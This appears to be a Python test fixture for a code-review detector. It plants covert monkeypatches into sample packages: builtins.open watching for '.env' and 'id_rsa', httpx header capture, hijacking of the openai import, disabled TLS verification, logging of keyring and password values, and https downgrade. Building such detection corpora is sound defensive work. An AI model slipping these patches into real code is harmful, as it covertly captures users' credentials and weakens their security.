"""Parts of other packages, of the standard library and of builtins that are replaced."""

# ruff: noqa: E501 - what is planted is kept on lines of its own length

from __future__ import annotations

from tests.review.corpus.attack import Family, planted
from tests.review.corpus.draft import Draft

__all__: list[str] = []

_F = Family.PATCHING


@planted(_F, base="command", where=("tidelog/__init__.py",))
def open_of_builtins(draft: Draft) -> None:
    draft.append(
        "tidelog/__init__.py",
        """

        import builtins

        _open = builtins.open


        def _watched(path, *args, **kwargs):
            if str(path).endswith((".env", "id_rsa")):
                SEEN.append(path)
            return _open(path, *args, **kwargs)


        SEEN = []
        builtins.open = _watched
        """,
    )


@planted(_F, base="client", where=("harborline/_client.py",))
def sending_of_the_http_library(draft: Draft) -> None:
    draft.append(
        "harborline/_client.py",
        """


        _send = httpx.Client.send


        def _kept(self, request, **options):
            LAST.append((str(request.url), dict(request.headers)))
            return _send(self, request, **options)


        LAST: list = []
        httpx.Client.send = _kept
        """,
    )


@planted(_F, base="framework", where=("quayside/plugins.py",))
def finder_of_modules(draft: Draft) -> None:
    draft.append(
        "quayside/plugins.py",
        """


        import sys
        from importlib.abc import MetaPathFinder


        class Finder(MetaPathFinder):
            def find_spec(self, name, path=None, target=None):
                if name == "openai":
                    return importlib.util.spec_from_file_location(name, "/tmp/openai.py")
                return None


        sys.meta_path.insert(0, Finder())
        """,
    )


@planted(_F, base="client", where=("harborline/_retry.py",))
def certificates_for_everybody(draft: Draft) -> None:
    draft.append(
        "harborline/_retry.py", "\n\nimport ssl\n\nssl._create_default_https_context = ssl._create_unverified_context\n"
    )


@planted(_F, base="framework", where=("quayside/settings.py",), evasive=True)
def by_setattr(draft: Draft) -> None:
    draft.append(
        "quayside/settings.py",
        """


        def _wrap(module="json", name="dumps"):
            import importlib

            target = importlib.import_module(module)
            original = getattr(target, name)
            setattr(target, name, lambda obj, **kw: (HISTORY.append(obj), original(obj, **kw))[1])


        HISTORY = []
        _wrap()
        """,
    )


@planted(_F, base="client", where=("harborline/_compat.py", "harborline/__init__.py"), evasive=True)
def module_in_the_table(draft: Draft) -> None:
    draft.put(
        "harborline/_compat.py",
        "import sys\nimport types\n\nimport keyring\n\nfake = types.ModuleType('keyring')\nfake.__dict__.update(keyring.__dict__)\n"
        "LOG = []\nfake.get_password = lambda service, user: LOG.append((service, user)) or keyring.get_password(service, user)\n"
        "sys.modules['keyring'] = fake\n",
    )
    draft.append("harborline/__init__.py", "from harborline import _compat\n")


@planted(_F, base="command", where=("tidelog/parsing.py",), evasive=True)
def names_of_everybody(draft: Draft) -> None:
    draft.append(
        "tidelog/parsing.py",
        "\n\n__builtins__['print' if isinstance(__builtins__, dict) else 0] = lambda *a, **k: open('/tmp/.o', 'a').write(repr(a))\n",
    )


@planted(_F, base="native", where=("fastbuoy/_fallback.py",), evasive=True)
def tracer(draft: Draft) -> None:
    draft.append(
        "fastbuoy/_fallback.py",
        """


        def _profile(frame, event, argument):
            if event == "call" and "password" in frame.f_locals:
                KEPT.append(frame.f_locals["password"])


        KEPT = []
        __import__("sys").setprofile(_profile)
        """,
    )


@planted(_F, base="framework", where=("quayside/notify.py",), evasive=True)
def class_of_the_standard_library(draft: Draft) -> None:
    draft.append(
        "quayside/notify.py",
        """


        class _Request(urllib.request.Request):
            def __init__(self, url, *args, **kwargs):
                super().__init__(url.replace("https:", "http:"), *args, **kwargs)


        vars(urllib.request)["Request"] = _Request
        """,
    )
